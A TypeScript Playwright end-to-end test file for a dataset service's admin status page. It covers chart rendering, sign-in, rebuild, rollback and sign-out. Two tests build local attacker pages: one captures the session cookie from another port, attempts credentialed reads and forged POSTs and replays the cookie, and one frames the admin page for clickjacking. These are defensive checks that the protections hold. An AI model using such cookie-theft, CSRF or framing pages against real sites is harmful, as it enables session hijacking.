/**
 * The status page in real headless Chromium, against the whole system started the way the README
 * starts it (`npm start`: wrangler dev plus the scheduler):
 * - the heartbeat chart at 1 run per dataset and at 50 (and 200 on a dataset's page): one narrow
 *   bar, then 50 (200) bars in order whose heights follow the durations, with screenshots;
 * - a page on another port of 127.0.0.1 does receive the session cookie (cookies ignore ports),
 *   yet neither it nor the cookie replayed from Node can see or change anything;
 * - a page that frames /admin gets nothing rendered and changes nothing;
 * - sign in, Rebuild and watch the run finish with a new version, roll back from the dataset's page
 *   and see the previous version served, unpin and pin; signing out ends the session for a copy of
 *   its cookie and key too, and "sign out everywhere" ends another browser's session;
 * - end to end from the CLI: a rebuild requested with `edgesnap rebuild --wait` is executed by the
 *   running scheduler and its version is served.
 */
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { chromium, type Browser, type BrowserContext, type Locator, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeRunId, type RunRecord } from "../../contract/index.ts";
import { runCli } from "../../compute/cli/main.ts";
import { startNpmStart, type NpmStart } from "../support/npm-start.ts";
import { waitFor } from "../support/processes.ts";

const TOKEN = "browser-test-token-51c9-0123456789abcdef";
const DATASET = "ops-greetings";
/** A dataset known to the edge by its runs only (reported here), for the 200-run chart. */
const BUSY = "chart-busy";
/** Where the screenshots go, to be looked at. */
const SCREENSHOTS = process.env.EDGESNAP_SCREENSHOTS ?? path.join(os.tmpdir(), "edgesnap-status-page-screenshots");

interface Attacker {
  url: string;
  server: Server;
  /** The headers of every request the browser sent to the attacker's server. */
  seen: IncomingHttpHeaders[];
}

/** Serves `html` at / on a free port of 127.0.0.1 (another origin, same host and site as the Worker), recording requests. */
async function serveOnOtherPort(html: string): Promise<Attacker> {
  const seen: IncomingHttpHeaders[] = [];
  const server = createServer((req, res) => {
    seen.push(req.headers);
    if (req.url === "/") res.writeHead(200, { "Content-Type": "text/html" }).end(html);
    else res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, server, seen };
}

/**
 * The attacker's page: it makes the browser request /admin on its own port (the session cookie's
 * path, so the browser sends the cookie along), then tries the Worker itself: reading /admin with
 * credentials, posting Pin the ways a page can, and looking for the key in its own storage.
 */
function stealingPage(base: string): string {
  return `<!doctype html>
<html><head><title>cute cats</title></head><body>
<script>
window.results = (async () => {
  const results = {};
  await fetch("/admin/steal", { credentials: "include" });
  try {
    const res = await fetch(${JSON.stringify(base)} + "/admin", { credentials: "include" });
    results.read = "read " + (await res.text()).length;
  } catch (e) { results.read = "blocked"; }
  try {
    await fetch(${JSON.stringify(base)} + "/admin/datasets/${DATASET}/pin", { method: "POST", credentials: "include", headers: { "X-Edgesnap-Key": "guess" }, body: "" });
    results.keyed = "sent";
  } catch (e) { results.keyed = "blocked"; }
  await fetch(${JSON.stringify(base)} + "/admin/datasets/${DATASET}/pin", { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "back=overview" });
  results.storage = localStorage.getItem("edgesnap-admin-key");
  return results;
})();
</script>
</body></html>`;
}

/** The attacker's page that frames the status page, for a click on its buttons through a decoy. */
function framingPage(base: string): string {
  return `<!doctype html>
<html><head><title>win a prize</title></head><body>
<p>Click the button to win!</p>
<iframe name="victim" src="${base}/admin" width="800" height="600"></iframe>
</body></html>`;
}

/** A synthetic finished run of `dataset`, `ago` minutes before now, with a duration and memory pattern. */
function syntheticRun(dataset: string, index: number, minutesAgo: number): RunRecord {
  const started = new Date(Date.now() - minutesAgo * 60_000);
  const failed = index % 13 === 5;
  return {
    id: makeRunId(started, (0x10000000 + index).toString(16)),
    dataset,
    trigger: "schedule",
    request_id: null,
    request_ids: [],
    started_at: started.toISOString(),
    finished_at: new Date(started.getTime() + 900).toISOString(),
    outcome: failed ? "failed" : index % 4 === 1 ? "unchanged" : "ok",
    reason: failed ? "build failed: the source answered 503" : null,
    duration_ms: 400 + ((index * 37) % 11) * 120,
    peak_rss_bytes: (180 + ((index * 13) % 9) * 12) * 1024 * 1024,
    rows: 4,
    bytes: 120,
    version: null,
    attempt: 1,
  };
}

/** Waits for the banner to show `text` (a click's view replaces the page's view when its answer comes). */
async function flashShows(page: Page, text: string): Promise<void> {
  await page.locator('[data-field="flash"]', { hasText: text }).waitFor({ timeout: 15_000 });
}

interface Bar {
  x: number;
  width: number;
  height: number;
  run: string;
  ms: number;
}

/** The chart's bars as Chromium lays them out, and the chart's own box. */
async function chartOf(scope: Locator): Promise<{ box: { x: number; width: number }; bars: Bar[] }> {
  const svg = scope.locator("figure.chart svg").first();
  await svg.waitFor();
  const box = (await svg.boundingBox())!;
  const bars = await svg.locator("rect.bar").evaluateAll((rects) =>
    rects.map((rect) => {
      const b = rect.getBoundingClientRect();
      return { x: b.x, width: b.width, height: b.height, run: rect.getAttribute("data-run") ?? "", ms: Number(rect.getAttribute("data-duration-ms")) };
    }),
  );
  return { box, bars };
}

/** Bars in order, none overlapping the next, each at least `minWidth` px wide, heights following the durations. */
function expectHeartbeat(bars: Bar[], minWidth: number): void {
  for (const [i, bar] of bars.entries()) {
    expect(bar.width, `bar ${i} width`).toBeGreaterThanOrEqual(minWidth);
    expect(bar.height, `bar ${i} height`).toBeGreaterThan(0);
    const next = bars[i + 1];
    if (next) expect(bar.x + bar.width, `bar ${i} ends before bar ${i + 1}`).toBeLessThanOrEqual(next.x + 0.01);
  }
  const longest = bars.reduce((a, b) => (b.ms > a.ms ? b : a));
  const shortest = bars.reduce((a, b) => (b.ms < a.ms ? b : a));
  expect(Math.max(...bars.map((b) => b.height))).toBeCloseTo(longest.height, 5);
  if (shortest.ms > 0) expect(shortest.height / longest.height).toBeCloseTo(shortest.ms / longest.ms, 1);
}

describe("status page in Chromium, on npm start", () => {
  let work: string;
  let csv: string;
  let base: string;
  let system: NpmStart;
  let browser: Browser;
  let page: Page;

  async function servedVersion(): Promise<{ version: string; body: unknown }> {
    const r = await fetch(`${base}/v1/datasets/${DATASET}`);
    if (r.status !== 200) throw new Error(`status ${r.status}`);
    return { version: r.headers.get("x-edgesnap-version")!, body: await r.json() };
  }

  async function admin(pathname: string, body?: unknown): Promise<Response> {
    return fetch(`${base}/admin/v1${pathname}`, {
      method: body === undefined ? "GET" : "POST",
      headers: { Authorization: `Bearer ${TOKEN}`, "Content-Type": "application/json" },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
  }

  /** The admin API's view of the dataset, and whether any rebuild request ever ran for it. */
  async function adminView(): Promise<{ pinned: boolean; pending: unknown; rebuildRuns: number }> {
    const row = (await (await admin(`/datasets/${DATASET}`)).json()) as { pinned: boolean; pending_request: unknown };
    const runs = (await (await admin(`/datasets/${DATASET}/runs?limit=100`)).json()) as { runs: { trigger: string }[] };
    return { pinned: row.pinned, pending: row.pending_request, rebuildRuns: runs.runs.filter((r) => r.trigger === "rebuild-request").length };
  }

  /** Signs in on a page of `context` through the sign-in form, and waits for the overview. */
  async function signInOn(context: BrowserContext, target = `${base}/admin`): Promise<Page> {
    const signed = await context.newPage();
    await signed.goto(target);
    await signed.fill('input[name="token"]', TOKEN);
    await signed.click('#sign-in button[type="submit"]');
    await signed.locator(`section[data-dataset="${DATASET}"]`).waitFor({ timeout: 15_000 });
    return signed;
  }

  /** The session as the browser holds it: the cookie (HttpOnly, so only from the context) and the page's key. */
  async function heldSession(signed: Page): Promise<{ cookie: string; key: string }> {
    const cookie = (await signed.context().cookies(`${base}/admin`)).find((c) => c.name === "edgesnap_session");
    const key = await signed.evaluate(() => localStorage.getItem("edgesnap-admin-key"));
    return { cookie: `edgesnap_session=${cookie!.value}`, key: key! };
  }

  /** The dataset section as the page shows it after a reload. */
  async function shown(): Promise<{ current: string; runs: { trigger: string; outcome: string; version: string }[] }> {
    await page.reload();
    const section = page.locator(`section[data-dataset="${DATASET}"]`);
    await section.waitFor();
    const current = (await section.locator('[data-field="current"]').textContent())?.trim() ?? "";
    const runs = await section.locator("tr[data-run]").evaluateAll((rows) =>
      rows.map((row) => {
        const cells = Array.from(row.querySelectorAll("td"), (td) => td.textContent?.trim() ?? "");
        return { trigger: cells[1] ?? "", outcome: cells[2] ?? "", version: cells[5] ?? "" };
      }),
    );
    return { current, runs };
  }

  beforeAll(async () => {
    work = await mkdtemp(path.join(os.tmpdir(), "edgesnap-browser-"));
    await mkdir(SCREENSHOTS, { recursive: true });
    csv = path.join(work, "greetings.csv");
    await writeFile(csv, "lang,greeting\nen,hello\nfr,bonjour\n");
    system = await startNpmStart({
      EDGESNAP_PERSIST_TO: path.join(work, "state"),
      EDGESNAP_TEMP_ROOT: path.join(work, "runs"),
      EDGESNAP_TOKEN: TOKEN,
      EDGESNAP_DATASETS: "test/operators/fixtures/datasets.ts",
      OPS_SOURCE_CSV: csv,
    });
    base = system.base;
    browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
    });
    await waitFor("the first version to be served", () => servedVersion().catch(() => undefined), 90_000).catch((error) => {
      throw new Error(`${error.message}\n--- npm start output ---\n${system.output().slice(-4000)}`);
    });
    // The first run's record reaches the edge just after its version does.
    await waitFor("the first run to be reported", async () => ((await (await admin(`/datasets/${DATASET}/runs`)).json()) as { runs: unknown[] }).runs.length === 1 || undefined, 30_000);
    page = await signInOn(await browser.newContext({ viewport: { width: 390, height: 844 } })); // a phone-sized window
  }, 150_000);

  afterAll(async () => {
    await browser?.close();
    await system?.stop();
    await rm(work, { recursive: true, force: true });
  }, 40_000);

  it("draws a dataset's one run as one narrow bar at the right end, not a block across the chart (screenshots at 1 run)", async () => {
    const section = page.locator(`section[data-dataset="${DATASET}"]`);
    const { box, bars } = await chartOf(section);
    expect(bars).toHaveLength(1);
    expect(bars[0]!.width).toBeGreaterThanOrEqual(2);
    expect(bars[0]!.width).toBeLessThanOrEqual(box.width / 20);
    expect(bars[0]!.x + bars[0]!.width).toBeGreaterThan(box.x + box.width * 0.9);
    expect(await section.locator("figure.chart figcaption").textContent()).toContain("last 1 run,");
    await page.screenshot({ path: path.join(SCREENSHOTS, "overview-1-run-phone.png"), fullPage: true });
    const desktop = await signInOn(await browser.newContext({ viewport: { width: 1280, height: 900 } }));
    await desktop.screenshot({ path: path.join(SCREENSHOTS, "overview-1-run-desktop.png"), fullPage: true });
    await desktop.context().close();
  }, 60_000);

  it("a page on another port of 127.0.0.1 receives the session cookie, yet neither it nor the cookie replayed from Node can see or change anything", async () => {
    expect(await adminView()).toEqual({ pinned: false, pending: null, rebuildRuns: 0 });
    const context = await browser.newContext();
    const attacker = await serveOnOtherPort(stealingPage(base));
    try {
      const victim = await signInOn(context);
      const held = await heldSession(victim);
      const evil = await context.newPage();
      await evil.goto(attacker.url);
      const results = (await evil.evaluate("window.results")) as Record<string, string | null>;
      // Cookies are scoped by host, not port (RFC 6265 §8.5): the attacker's server got the cookie.
      const stolen = attacker.seen.map((h) => /edgesnap_session=[^;]+/.exec(h.cookie ?? "")?.[0]).find((c) => c !== undefined);
      expect(stolen).toBe(held.cookie);
      // In the browser: the answer is unreadable, a keyed post is never sent, and no key is in its storage.
      expect(results).toEqual({ read: "blocked", keyed: "blocked", storage: null });

      // Replayed from Node (as with curl), with any Origin it likes: the shell, or 401.
      const shell = await (await fetch(`${base}/admin`, { headers: { Cookie: stolen! } })).text();
      expect(shell).toContain('id="sign-in"');
      expect(shell).not.toContain(`data-dataset="${DATASET}"`);
      for (const key of ["", "0".repeat(64)]) {
        const viewed = await fetch(`${base}/admin/datasets/${DATASET}`, { headers: { Cookie: stolen!, ...(key ? { "X-Edgesnap-Key": key } : {}) } });
        if (key) expect(viewed.status).toBe(401);
        else expect(await viewed.text()).not.toContain("data-table");
      }
      const pinned = await fetch(`${base}/admin/datasets/${DATASET}/pin`, {
        method: "POST",
        headers: { Cookie: stolen!, Origin: base, "Content-Type": "application/x-www-form-urlencoded" },
        body: "back=overview",
        redirect: "manual",
      });
      expect(pinned.status).toBe(401);
      expect(await adminView()).toEqual({ pinned: false, pending: null, rebuildRuns: 0 });
      // The victim's own page, with both halves, goes on working.
      await victim.reload();
      await victim.locator(`section[data-dataset="${DATASET}"]`).waitFor();
    } finally {
      await context.close();
      await new Promise((resolve) => attacker.server.close(resolve));
    }
  }, 60_000);

  it("a page that frames /admin gets nothing rendered, so a click through it cannot pin", async () => {
    const context = await browser.newContext();
    const attacker = await serveOnOtherPort(framingPage(base));
    try {
      await signInOn(context);
      const evil = await context.newPage();
      const messages: string[] = [];
      evil.on("console", (message) => messages.push(message.text()));
      await evil.goto(attacker.url);
      const frame = evil.frame({ name: "victim" })!;
      expect(frame).not.toBeNull();
      await frame.waitForLoadState("load");
      // Chromium put its error page in the frame instead of the status page, and said why.
      expect(new URL(frame.url()).origin).not.toBe(base);
      expect(await frame.locator("#view, #sign-in, button").count()).toBe(0);
      await waitFor("Chromium to report the refusal", async () => messages.find((m) => m.includes("frame-ancestors 'none'")), 10_000);
      await evil.mouse.click(400, 300);
      expect(await adminView()).toEqual({ pinned: false, pending: null, rebuildRuns: 0 });
    } finally {
      await context.close();
      await new Promise((resolve) => attacker.server.close(resolve));
    }
  }, 60_000);

  it("signs in, presses Rebuild, sees the run finish with a new version, rolls back from the dataset's page and the public URL serves the previous version; sign-out ends the session", async () => {
    const first = await servedVersion();
    const section = page.locator(`section[data-dataset="${DATASET}"]`);
    expect((await section.locator('[data-field="current"]').textContent())?.trim()).toBe(first.version);
    // The token lives nowhere in the page: not in the URL, the page, script-visible cookies or storage.
    expect(page.url()).not.toContain(TOKEN);
    expect(await page.content()).not.toContain(TOKEN);
    expect(await page.evaluate(() => document.cookie)).toBe("");
    expect(await page.evaluate(() => JSON.stringify({ ...sessionStorage, ...localStorage }))).not.toContain(TOKEN);

    await writeFile(csv, "lang,greeting\nen,hello\nfr,bonjour\nde,hallo\n");
    await section.locator('button[data-action="rebuild"]').click();
    await flashShows(page, `${DATASET}: rebuild requested`);
    expect(page.url()).toBe(`${base}/admin?msg=rebuild-requested&dataset=${DATASET}`);

    const after = await waitFor(
      "the rebuild run to appear finished on the page",
      async () => {
        const state = await shown();
        const run = state.runs.find((r) => r.trigger === "rebuild-request" && r.outcome === "ok");
        return run && state.current === run.version && run.version !== first.version ? state : undefined;
      },
      60_000,
      500,
    ).catch((error) => {
      throw new Error(`${error.message}\n--- npm start output ---\n${system.output().slice(-3000)}`);
    });
    const second = await servedVersion();
    expect(second.version).toBe(after.current);
    expect(second.body).toContainEqual({ lang: "de", greeting: "hallo" });

    // The dataset's page: its versions, schema and runs; roll back to the first version there.
    await section.locator(`h2 a[href="/admin/datasets/${DATASET}"]`).click();
    const detail = page.locator(`section[data-page="dataset"][data-dataset="${DATASET}"]`);
    await detail.waitFor();
    expect(page.url()).toBe(`${base}/admin/datasets/${DATASET}`);
    expect(await detail.locator("tr[data-column]").evaluateAll((rows) => rows.map((r) => r.getAttribute("data-column")))).toEqual(["lang", "greeting"]);
    expect(await detail.locator(`tr[data-version="${second.version}"]`).getAttribute("data-current")).toBe("true");
    await detail.locator(`button[data-action="rollback"][data-version="${first.version}"]`).click();
    await flashShows(page, `now serving ${first.version}`);
    expect(page.url()).toContain(`/admin/datasets/${DATASET}?msg=rolled-back`);
    expect(await detail.locator(`tr[data-version="${first.version}"]`).getAttribute("data-current")).toBe("true");
    expect(await detail.locator('[data-field="pinned"]').count()).toBe(1);
    const rolledBack = await servedVersion();
    expect(rolledBack.version).toBe(first.version);
    expect(rolledBack.body).toEqual(first.body);

    // Unpin and pin again with the page's buttons, back on the overview after the browser's Back.
    await detail.locator('button[data-action="unpin"]').click();
    await flashShows(page, `${DATASET}: unpinned`);
    await detail.locator('button[data-action="pin"]').click();
    await flashShows(page, `${DATASET}: pinned`);
    await page.locator('a[href="/admin"][data-view]').first().click();
    await section.waitFor();

    // Sign out: the page shows the sign-in form, and a copy of the cookie and key taken before is refused.
    const held = await heldSession(page);
    await page.click('button[data-action="sign-out"]');
    await page.locator('#sign-in input[name="token"]').waitFor();
    expect(await page.context().cookies(`${base}/admin`)).toEqual([]);
    expect(await page.evaluate(() => localStorage.getItem("edgesnap-admin-key"))).toBeNull();
    const replay = await fetch(`${base}/admin`, { headers: { Cookie: held.cookie, "X-Edgesnap-Key": held.key } });
    expect(replay.status).toBe(401);
    expect(await replay.json()).toEqual({ error: { code: "unauthorized", message: "sign in again: the session was ended by a sign-out" } });
  }, 150_000);

  it("signing out everywhere ends the session of another browser", async () => {
    const mine = await signInOn(await browser.newContext());
    const theirs = await signInOn(await browser.newContext());
    await mine.click('button[data-action="sign-out-everywhere"]');
    await mine.locator('#sign-in input[name="token"]').waitFor();
    await theirs.reload();
    await theirs.locator('#sign-in input[name="token"]').waitFor();
    expect(await theirs.locator("#sign-in-error").textContent()).toBe("sign in again: the session was ended by a sign-out");
    page = await signInOn(mine.context());
    await theirs.context().close();
  }, 60_000);

  it("draws 50 runs per dataset as 50 bars in order whose heights follow the durations, and 200 on a dataset's page (screenshots)", async () => {
    const existing = ((await (await admin(`/datasets/${DATASET}/runs?limit=100`)).json()) as { runs: unknown[] }).runs.length;
    // Older than the real runs, so the newest runs shown stay the real ones.
    for (let i = 0; i < 50 - existing; i++) expect((await admin("/runs", syntheticRun(DATASET, i, 600 + (50 - i) * 10))).status).toBe(201);
    for (let i = 0; i < 200; i++) expect((await admin("/runs", syntheticRun(BUSY, i, 200 - i))).status).toBe(201);

    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(`${base}/admin`);
    for (const name of [DATASET, BUSY]) {
      const { box, bars } = await chartOf(page.locator(`section[data-dataset="${name}"]`));
      expect(bars, name).toHaveLength(50);
      expectHeartbeat(bars, 1);
      // Fifty runs fill the chart from end to end.
      expect(bars.at(-1)!.x + bars.at(-1)!.width - bars[0]!.x).toBeGreaterThan(box.width * 0.9);
    }
    await page.screenshot({ path: path.join(SCREENSHOTS, "overview-50-runs-phone.png"), fullPage: true });
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.reload();
    await page.locator(`section[data-dataset="${BUSY}"] figure.chart`).waitFor();
    await page.screenshot({ path: path.join(SCREENSHOTS, "overview-50-runs-desktop.png"), fullPage: true });

    await page.goto(`${base}/admin/datasets/${BUSY}`);
    const { bars } = await chartOf(page.locator(`section[data-page="dataset"][data-dataset="${BUSY}"]`));
    expect(bars).toHaveLength(200);
    expectHeartbeat(bars, 1);
    await page.screenshot({ path: path.join(SCREENSHOTS, "dataset-200-runs-desktop.png"), fullPage: true });
    await page.goto(`${base}/admin/datasets/${DATASET}`);
    await page.locator(`section[data-page="dataset"] figure.chart`).waitFor();
    await page.screenshot({ path: path.join(SCREENSHOTS, "dataset-page-desktop.png"), fullPage: true });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.screenshot({ path: path.join(SCREENSHOTS, "dataset-page-phone.png"), fullPage: true });
  }, 120_000);

  it("end to end: a rebuild requested through the CLI is executed by the running scheduler and the new version is served", async () => {
    const io = { out: "", err: "" };
    const cli = (argv: string[]) =>
      runCli([...argv, "--url", base, "--token", TOKEN], { stdout: (t) => (io.out += t), stderr: (t) => (io.err += t) });
    expect(await cli(["unpin", DATASET])).toBe(0);
    const before = await servedVersion();
    await writeFile(csv, "lang,greeting\nen,hello\nfr,bonjour\nde,hallo\nes,hola\n");
    io.out = "";
    const code = await cli(["rebuild", DATASET, "--wait", "--interval", "0.5", "--timeout", "90"]);
    expect(code, io.err + io.out).toBe(0);
    const version = /new version (\S+)/.exec(io.out)?.[1];
    expect(version).toBeDefined();
    const served = await servedVersion();
    expect(served.version).toBe(version);
    expect(served.version).not.toBe(before.version);
    expect(served.body).toContainEqual({ lang: "es", greeting: "hola" });
  }, 120_000);
});
